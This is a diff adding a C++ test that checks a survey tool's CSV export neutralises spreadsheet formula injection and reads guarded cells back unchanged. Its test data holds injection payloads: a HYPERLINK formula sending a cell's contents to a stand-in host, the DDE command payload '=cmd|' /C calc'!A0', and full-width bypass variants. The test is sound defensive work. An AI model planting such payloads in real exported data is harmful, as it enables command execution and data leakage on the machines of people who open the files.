@@ -371,3 +371,94 @@ TEST_CASE("fast and record paths agree on thousands of mutated files", "[cli][cs
     CHECK(agreedOk > 300);
     CHECK(agreedError > 300);
 }
+
+TEST_CASE("CSV cells that a spreadsheet would run as formulas are guarded, and read back exactly",
+          "[cli][csv][security]") {
+    struct Case {
+        std::string_view in, written;
+    };
+    // The written cell as it appears in the file (after RFC 4180 quoting).
+    const Case cases[] = {
+        {"=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")",
+         "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"klik\"\")\""},
+        {"=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"},
+        {"+1+1", "'+1+1"},
+        {"-2+3", "'-2+3"},
+        {"@SUM(A1:A9)", "'@SUM(A1:A9)"},
+        {"\t=1", "\"'\t=1\""},
+        {"\r=1", "\"'\r=1\""},
+        {"  =1+1", "\"'  =1+1\""},
+        {"\xEF\xBC\x9D"
+         "1+1",
+         "'\xEF\xBC\x9D"
+         "1+1"}, // full-width =
+        {"\xEF\xBC\xA0"
+         "SUM(A1)",
+         "'\xEF\xBC\xA0"
+         "SUM(A1)"}, // full-width @
+        {"\xEF\xBC\x8B"
+         "1",
+         "'\xEF\xBC\x8B"
+         "1"}, // full-width +
+        {"\xEF\xBC\x8D"
+         "1",
+         "'\xEF\xBC\x8D"
+         "1"}, // full-width -
+        {"\xE2\x88\x92"
+         "1",
+         "'\xE2\x88\x92"
+         "1"}, // minus sign
+        {"'=1", "''=1"},
+        {"'apa", "''apa"},
+        // Numbers stay numbers; ordinary text is untouched.
+        {"-3", "-3"},
+        {"+62", "+62"},
+        {"-0.25", "-0.25"},
+        {"1e-05", "1e-05"},
+        {"4.5", "4.5"},
+        {"pelayanan = baik", "pelayanan = baik"},
+        {"a-b", "a-b"},
+        {"", ""},
+    };
+    for (const Case& c : cases) {
+        INFO("cell " << c.in);
+        std::string out;
+        appendCsvField(out, c.in);
+        CHECK(out == c.written);
+        auto table = readCsvTable("h\r\n" + out + "\r\n");
+        if (c.in.empty()) continue; // a blank line is not a row
+        REQUIRE(table.ok());
+        REQUIRE(table->rows.size() == 1);
+        CHECK(table->rows[0][0] == c.in);
+    }
+    // A leading apostrophe typed on paper (not followed by a formula start) is kept on reading.
+    auto typed = readCsvTable("h\r\n'apa kabar\r\n");
+    REQUIRE(typed.ok());
+    CHECK(typed->rows[0][0] == "'apa kabar");
+
+    // Whole records: a hostile comment, service and profile read back to the same records and the
+    // same statistics through both reader paths (what `suara report` uses).
+    Simulator sim(servqual(), SimulateOptions{});
+    std::vector<Response> written;
+    for (int i = 0; i < 40; ++i) written.push_back(sim.next());
+    written[0].comment = "=HYPERLINK(\"http://evil.example\",\"klik\")";
+    written[1].service = "=cmd|' /C calc'!A0";
+    written[2].comment = "@SUM(1+1)*cmd|' /C calc'!A0";
+    written[3].comment = "-1";
+    written[4].kioskId = "+kiosk";
+    std::string csv = responsesCsvHeader(servqual());
+    for (const Response& r : written) appendResponseCsvRow(csv, servqual(), r);
+    CHECK(csv.find(",\"'=HYPERLINK(") != std::string::npos);
+    CHECK(csv.find(",'=cmd|") != std::string::npos);
+    CHECK(csv.find(",=") == std::string::npos);
+    CHECK(csv.find(",@") == std::string::npos);
+    CHECK(csv.find(",-1\r\n") != std::string::npos); // a number is not guarded
+    auto back = readCsvResponses(csv, servqual());
+    REQUIRE(back.ok());
+    CHECK(*back == written);
+    Accumulator direct(servqual());
+    for (const Response& r : written) direct.add(r);
+    auto fast = readCsvAccumulator(csv, servqual());
+    REQUIRE(fast.ok());
+    CHECK(*fast == direct);
+}
